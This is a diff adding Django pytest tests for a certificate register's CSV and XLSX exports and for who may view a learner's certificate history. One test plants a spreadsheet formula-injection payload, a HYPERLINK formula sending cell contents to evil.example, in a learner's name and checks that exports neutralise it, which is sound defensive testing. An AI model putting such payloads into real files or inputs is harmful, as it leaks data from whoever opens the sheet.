@@ -1,11 +1,19 @@
 """The admin: certificate templates with versions and a PDF preview, the register, one certificate's page."""
 
+import csv
+import io
+
+import openpyxl
 import pytest
 from django.contrib.auth import get_user_model
+from django.contrib.auth.models import Group
 from django.core.exceptions import ValidationError
 
 from certificates import issuing
 from certificates.models import Certificate, CertificateTemplate
+from courses.roles import MANAGERS
+from courses.testing import make_user
+from tests.certificates.conftest import complete
 
 
 @pytest.fixture
@@ -87,6 +95,27 @@ def test_the_register_lists_filters_and_exports(trainer_client, certificate):
     assert "Valid" in rows
 
 
+def test_the_register_exports_cannot_run_a_formula_from_a_name(trainer_client, english_learner, course):
+    english_learner.first_name, english_learner.last_name = '=HYPERLINK("http://evil.example/?"&A1', "x)"
+    english_learner.save()
+    english_learner.staff_profile.persian_name = ""
+    english_learner.staff_profile.save()
+    certificate = issuing.issue_for_completion(complete(english_learner, course))
+    issuing.revoke(certificate, by=get_user_model().objects.get(username="trainer"), reason="@SUM(1+1)")
+    name = '=HYPERLINK("http://evil.example/?"&A1 x)'
+    assert Certificate.objects.get(pk=certificate.pk).holder_name == name
+
+    export = trainer_client.get("/admin/certificates/", {"export": "csv"})
+    rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode())))
+    xlsx = trainer_client.get("/admin/certificates/", {"export": "xlsx"})
+    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(xlsx.streaming_content))).active
+
+    assert rows[1][0] == f"'{name}"
+    assert rows[1][-1] == "'@SUM(1+1)"
+    assert sheet.cell(row=2, column=1).value == f"'{name}"
+    assert sheet.cell(row=2, column=len(rows[0])).value == "'@SUM(1+1)"
+
+
 def test_a_trainer_reissues_from_the_certificates_page(trainer_client, certificate):
     page = trainer_client.get(f"/admin/certificates/{certificate.pk}/")
     assert page.status_code == 200
@@ -105,3 +134,25 @@ def test_a_trainer_reissues_from_the_certificates_page(trainer_client, certifica
 def test_learners_have_no_register(client, persian_learner, certificate):
     client.force_login(persian_learner)
     assert client.get("/admin/certificates/").status_code == 302
+
+
+def test_a_learners_history_lists_their_certificates_for_those_who_see_the_register(
+    client, trainer_client, certificate, persian_learner
+):
+    profile = persian_learner.staff_profile
+    history = f"/admin/staff_profiles/inspect/{profile.pk}/"
+
+    page = trainer_client.get(history).text
+    assert f'href="/admin/certificates/{certificate.pk}/"' in page
+    assert certificate.code in page
+
+    # A manager of another team opens neither the history nor, through it, the certificates.
+    outsider = make_user("outsider")
+    outsider.groups.add(Group.objects.get(name=MANAGERS))
+    client.force_login(outsider)
+    assert client.get(history).status_code == 404
+
+    # Their own manager sees them.
+    persian_learner.staff_profile.manager = outsider
+    persian_learner.staff_profile.save()
+    assert certificate.code in client.get(history).text
